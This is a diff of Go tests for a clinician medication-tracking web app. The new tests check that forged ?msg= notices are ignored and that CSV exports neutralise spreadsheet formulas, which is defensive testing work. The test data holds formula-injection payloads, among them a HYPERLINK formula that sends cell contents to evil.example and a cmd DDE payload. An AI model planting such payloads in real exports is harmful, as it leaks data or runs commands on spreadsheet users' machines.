@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"encoding/csv"
 	"encoding/json"
+	"html/template"
 	"net/http"
 	"net/url"
 	"slices"
@@ -186,18 +187,26 @@ func TestFalseMiss(t *testing.T) {
 		wantMsg    string
 		wantMarked int
 	}{
-		{"no reason", aliceCookie, aliceCSRF, url.Values{"dose": {missed}, "source": {"clinician"}}, 303, "Not saved: say why the miss is false", 0},
-		{"not a miss", aliceCookie, aliceCSRF, url.Values{"dose": {"nope@2026"}, "reason": {"x"}, "source": {"clinician"}}, 303, "Not saved", 0},
-		{"bad source", aliceCookie, aliceCSRF, url.Values{"dose": {missed}, "reason": {"x"}, "source": {"robot"}}, 303, "Not saved", 0},
+		{"no reason", aliceCookie, aliceCSRF, url.Values{"dose": {missed}, "source": {"clinician"}}, 303, "no-reason", 0},
+		{"reason of two lines", aliceCookie, aliceCSRF, url.Values{"dose": {missed}, "reason": {"a\nb"}, "source": {"clinician"}}, 303, "reason-not-line", 0},
+		{"not a miss", aliceCookie, aliceCSRF, url.Values{"dose": {"nope@2026"}, "reason": {"x"}, "source": {"clinician"}}, 303, "no-miss", 0},
+		{"bad source", aliceCookie, aliceCSRF, url.Values{"dose": {missed}, "reason": {"x"}, "source": {"robot"}}, 303, "bad-source", 0},
 		{"another clinician", bobCookie, bobCSRF, url.Values{"dose": {missed}, "reason": {"x"}, "source": {"clinician"}}, 404, "", 0},
-		{"marked", aliceCookie, aliceCSRF, url.Values{"dose": {missed}, "reason": {"took it from the blister pack"}, "source": {"caregiver"}}, 303, "marked as false", 1},
-		{"unmarked", aliceCookie, aliceCSRF, url.Values{"dose": {missed}, "action": {"unmark"}}, 303, "removed", 0},
+		{"marked", aliceCookie, aliceCSRF, url.Values{"dose": {missed}, "reason": {"took it from the blister pack"}, "source": {"caregiver"}}, 303, "marked", 1},
+		{"unmarked", aliceCookie, aliceCSRF, url.Values{"dose": {missed}, "action": {"unmark"}}, 303, "unmarked", 0},
+		{"nothing to unmark", aliceCookie, aliceCSRF, url.Values{"dose": {missed}, "action": {"unmark"}}, 303, "no-mark", 0},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
 			code, msg := post(tc.cookie, tc.csrf, tc.form)
-			if code != tc.wantCode || !strings.Contains(msg, tc.wantMsg) {
-				t.Errorf("POST false-misses = %d %q, want %d and a message with %q", code, msg, tc.wantCode, tc.wantMsg)
+			if code != tc.wantCode || msg != tc.wantMsg {
+				t.Errorf("POST false-misses = %d %q, want %d and the notice %q", code, msg, tc.wantCode, tc.wantMsg)
+			}
+			if msg != "" {
+				page := e.do("GET", "/patients/"+e.patA.ID+"?msg="+msg, aliceCookie, "").Body.String()
+				if text := template.HTMLEscapeString(notices[msg]); text == "" || !strings.Contains(page, text) {
+					t.Errorf("patient page with ?msg=%s does not show its notice %q", msg, notices[msg])
+				}
 			}
 			if got := falseMisses(); got != tc.wantMarked {
 				t.Errorf("after it the report counts %d false misses, want %d", got, tc.wantMarked)
@@ -216,6 +225,18 @@ func TestFalseMiss(t *testing.T) {
 	}
 	if want := []string{"dose.false_miss source=caregiver", "dose.false_miss_removed "}; !slices.Equal(acts, want) {
 		t.Errorf("audit of the marks = %q, want %q", acts, want)
+	}
+}
+
+// TestNoticeOnlyByID: the patient page shows a notice only by its id;
+// any other text in ?msg= (a link someone sent) shows nothing.
+func TestNoticeOnlyByID(t *testing.T) {
+	e := newEnv(t)
+	cookie, _ := e.login("alice", testPassword)
+	const forged = "Official notice: call 555-0100 to confirm the dose"
+	page := e.do("GET", "/patients/"+e.patA.ID+"?msg="+url.QueryEscape(forged), cookie, "").Body.String()
+	if strings.Contains(page, "call 555-0100") || strings.Contains(page, `class="notice"`) {
+		t.Error("the patient page shows the text of ?msg= as a notice")
 	}
 }
 
@@ -338,5 +359,62 @@ func TestPatientSetupProfiles(t *testing.T) {
 				t.Errorf("PatientSetup = zone %q, dispensers %+v; want zone %q and device A", got, devs, tc.wantTZ)
 			}
 		})
+	}
+}
+
+// TestCSVFormulaInjection: text a device or a clinician wrote that a
+// spreadsheet would run as a formula (= + - @, tab, CR first) is written
+// as text in doses.csv and readings.csv (OWASP: a leading '), and numbers
+// stay numbers.
+func TestCSVFormulaInjection(t *testing.T) {
+	e := newEnv(t)
+	p, err := e.store.Authenticate(e.ctx, e.tokA)
+	if err != nil {
+		t.Fatal(err)
+	}
+	sched := t0.Add(-2 * time.Hour)
+	dose := `=HYPERLINK("http://evil.example/?"&A1,"open")`
+	b := &uplink.Batch{Version: uplink.Version, Device: e.devA.ID, Log: "l1", Heartbeat: uplink.Heartbeat{Time: t0},
+		Events: []uplink.Event{
+			{Seq: 1, ID: "e1", Time: sched, Kind: "dose_due", DoseID: dose, Scheduled: sched, Medication: "+cmd|' /C calc'!A0"},
+			{Seq: 2, ID: "e2", Time: sched.Add(time.Minute), Kind: "skipped", DoseID: dose, Scheduled: sched, Medication: "+cmd|' /C calc'!A0", Detail: "by=@SUM(1+1)"},
+			{Seq: 3, ID: "e3", Time: sched.Add(time.Minute), Kind: "dose_due", DoseID: "\tm@x", Scheduled: sched, Medication: "m"},
+			{Seq: 4, ID: "e4", Time: sched.Add(2 * time.Minute), Kind: "missed", DoseID: "\tm@x", Scheduled: sched, Medication: "m"},
+		},
+		Readings: []uplink.Reading{{Seq: 1, ID: "r1", Quantity: "temperature", Value: -1.5, Unit: "-1+2", Time: sched,
+			Device: "@evil", Original: "\r=2", Unreliable: []string{"=bad"}}}}
+	if _, err := e.store.Ingest(e.ctx, p, b, ""); err != nil {
+		t.Fatal(err)
+	}
+	if err := e.store.MarkFalseMiss(e.ctx, CLI("test"), e.patA.ID, "\tm@x", "=1+1 taken from a blister pack", SourceClinician); err != nil {
+		t.Fatal(err)
+	}
+	numeric := map[string]bool{"delay_min": true, "value": true}
+	for _, file := range []string{"doses.csv", "readings.csv"} {
+		w := e.do("GET", "/patients/"+e.patA.ID+"/"+file+"?days=2", "Bearer "+e.apiAlice, "")
+		rows, err := csv.NewReader(bytes.NewReader(w.Body.Bytes())).ReadAll()
+		if err != nil || len(rows) < 2 {
+			t.Fatalf("%s = %d %s (%v), want a header and rows", file, w.Code, w.Body, err)
+		}
+		quoted := 0
+		for _, row := range rows[1:] {
+			for i, cell := range row {
+				if numeric[rows[0][i]] || cell == "" {
+					continue
+				}
+				if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("%s: %s = %q, a formula a spreadsheet would run", file, rows[0][i], cell)
+				}
+				if cell[0] == '\'' {
+					quoted++
+				}
+			}
+		}
+		if quoted == 0 {
+			t.Errorf("%s has no neutralised cell:\n%s", file, w.Body)
+		}
+		if file == "readings.csv" && !slices.Contains(rows[1], "-1.5") {
+			t.Errorf("readings.csv row %q: the value -1.5 should stay a number", rows[1])
+		}
 	}
 }
